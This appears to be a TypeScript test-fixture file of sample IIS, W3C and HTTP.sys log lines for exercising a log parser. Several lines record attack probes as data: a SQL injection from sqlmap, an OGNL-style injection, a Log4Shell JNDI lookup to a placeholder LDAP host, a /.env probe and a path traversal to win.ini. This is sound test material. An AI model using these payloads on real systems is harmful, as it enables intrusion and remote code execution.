/** Lines of W3C extended logs in the shapes that IIS and HTTP.sys write, for tests. Headers stand among them. */

const EDGE = 'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Edg/126.0.0.0';

/** Header and lines of IIS 10 with what it writes unless told otherwise. */
export const IIS_SAMPLES: readonly string[] = [
  '#Software: Microsoft Internet Information Services 10.0',
  '#Version: 1.0',
  '#Date: 2026-10-09 22:33:20',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
  `2026-10-09 22:33:20 198.18.1.10 GET /lookup county=boone&year=2026 443 - 203.0.113.9 ${EDGE} https://vote.example.gov/ 200 0 0 46`,
  `2026-10-09 22:33:21 198.18.1.10 POST /Account/Login ReturnUrl=%2F 443 - 203.0.113.9 ${EDGE} - 302 0 0 15`,
  `2026-10-09 22:33:22 198.18.1.10 GET /staff/ - 443 EXAMPLE\\frank 203.0.113.9 ${EDGE} - 401 1 1326 15`,
  `2026-10-09 22:33:22 198.18.1.10 GET /staff/ - 443 - 203.0.113.9 ${EDGE} - 401 1 2148074254 15`,
  `2026-10-09 22:33:23 198.18.1.10 GET /staff/ - 443 EXAMPLE\\frank 203.0.113.9 ${EDGE} - 200 0 0 15`,
  `2026-10-09 22:33:24 198.18.1.10 GET /lookup id=1'+or+1=1-- 443 - 203.0.113.9 sqlmap/1.7 - 500 0 0 15`,
  '2026-10-09 22:33:25 2001:db8:4f::10 GET /.env - 443 - 2001:db8::7 - - 404 0 2 0',
  '2026-10-09 22:33:26 198.18.1.10 GET / - 80 - 2001:db8::7 - - 200 0 0 0',
  '2026-10-09 22:33:27 ::1%0 GET / - 80 - fe80::1%3 - - 200 0 0 0',
  '2026-10-09 22:33:28 198.18.1.10 GET / redirect:${%23req%3d%23context.get(x)} 443 - 203.0.113.9 - ${jndi:ldap://x/a} 401 0 0 0',
];

/** The same server with sizes, a host's name and a forwarding header, as on an office's farm behind a proxy. */
export const IIS_FARM_SAMPLES: readonly string[] = [
  '#Fields: date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs-version cs(User-Agent) cs(Cookie) cs(Referer) cs-host sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken X-Forwarded-For',
  `2026-10-09 22:33:20 W3SVC2 WEB1 198.18.1.10 GET /a.jpg w=1&h=2 80 - 198.18.0.2 HTTP/1.1 ${EDGE} s=1;+t=2 - vote.example.gov 304 0 0 346 306 15 203.0.113.9,+198.51.100.4`,
  `2026-10-09 22:33:21 W3SVC2 WEB1 198.18.1.10 CONNECT x:443 - 80 - 198.18.0.2 HTTP/1.1 - - - vote.example.gov 405 0 0 99999999999 306 15 -`,
];

/** Times without dates, as the W3C's draft allows. */
export const W3C_SAMPLES: readonly string[] = [
  '#Date: 2026-10-09 22:33:20',
  '#Fields: time c-ip cs-method cs-uri-stem sc-status',
  '22:33:21 203.0.113.9 GET /index.html 200',
];

/** The error log of HTTP.sys: requests that no site was asked for. */
export const HTTPERR_SAMPLES: readonly string[] = [
  '#Fields: date time c-ip c-port s-ip s-port cs-version cs-method cs-uri sc-status s-siteid s-reason s-queuename',
  '2026-10-09 22:33:20 203.0.113.9 50229 198.18.1.10 443 HTTP/1.1 GET /../../windows/win.ini 400 - URL -',
  '2026-10-09 22:33:21 203.0.113.9 50230 198.18.1.10 443 - - - 400 - Verb -',
  '2026-10-09 22:33:22 203.0.113.9 50231 198.18.1.10 443 - - - - - Timer_ConnectionIdle -',
];
